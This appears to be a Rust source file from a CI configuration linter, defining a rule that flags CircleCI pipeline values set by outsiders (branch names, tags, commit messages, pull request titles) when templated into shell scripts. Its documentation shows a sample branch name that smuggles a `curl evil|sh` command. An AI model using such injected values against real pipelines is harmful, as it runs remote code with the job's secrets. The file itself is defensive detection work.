//! `script-injection`: a value of the pipeline that a stranger sets is put into a script by a
//! template: the branch's name, the tag, the title or the message of what was pushed.

use crate::finding::{Confidence, Finding};
use crate::lint::Context;
use crate::lint::rule::declare_rule;

declare_rule! {
    /// # What it does
    /// A value of the pipeline that a stranger sets is put into a script by a template: the
    /// branch's name, the tag, the title or the message of what was pushed.
    ///
    /// # Why is this bad
    /// The text becomes part of the script before the shell reads it: a branch that is called
    /// `a";curl evil|sh;"` runs as a command, with the secrets of the job.
    ///
    /// # Example
    /// ```yaml
    /// - run: echo "building << pipeline.git.branch >>"
    /// ```
    ///
    /// # Use instead
    /// ```yaml
    /// - run: echo "building $CIRCLE_BRANCH"
    /// ```
    ///
    /// # What holdall cannot know
    /// Who may push branches and open pull requests here, and whether builds of forks get
    /// secrets.
    ///
    /// # References
    /// - https://circleci.com/docs/pipeline-variables/
    /// - https://owasp.org/www-project-top-10-ci-cd-security-risks/
    SCRIPT_INJECTION: "script-injection", Security, Error, check
}

/// Values that whoever pushes or writes a comment chooses, by how their names begin, with what to
/// use in their place.
const CHOSEN: [(&str, &str); 10] = [
    ("pipeline.git.branch.is_default", ""),
    ("pipeline.git.branch", "$CIRCLE_BRANCH"),
    ("pipeline.git.tag", "$CIRCLE_TAG"),
    ("pipeline.git.commit.subject", ""),
    ("pipeline.git.commit.body", ""),
    ("pipeline.event.github.pull_request.title", ""),
    ("pipeline.event.github.pull_request.head.ref", ""),
    ("pipeline.event.github.comment.body", ""),
    ("pipeline.trigger_parameters.webhook.body", ""),
    ("pipeline.event.github.ref", ""),
];

fn check(context: &Context<'_>, out: &mut Vec<Finding>) {
    for script in context.scripts() {
        let mut from = 0;
        let text = &script.text;
        while let Some(open) = text[from..].find("<<").map(|i| from + i) {
            let Some(close) = text[open..].find(">>").map(|i| open + i + 2) else {
                break;
            };
            from = close;
            let name = text[open + 2..close - 2].trim();
            let Some((chosen, instead)) = CHOSEN.iter().find(|(n, _)| name == *n) else {
                continue;
            };
            if chosen.ends_with("is_default") {
                continue;
            }
            let help = match *instead {
                "" => "put it into the step's `environment`, and use the variable in quotes"
                    .to_owned(),
                variable => {
                    format!("use the variable that the service sets, in quotes: `\"{variable}\"`")
                }
            };
            out.push(
                SCRIPT_INJECTION
                    .finding(
                        "a stranger's text in a script",
                        script.at(open..close),
                        format!("whoever pushes chooses `{chosen}`"),
                    )
                    .confidence(Confidence::High)
                    .help(help)
                    .done(),
            );
        }
    }
}
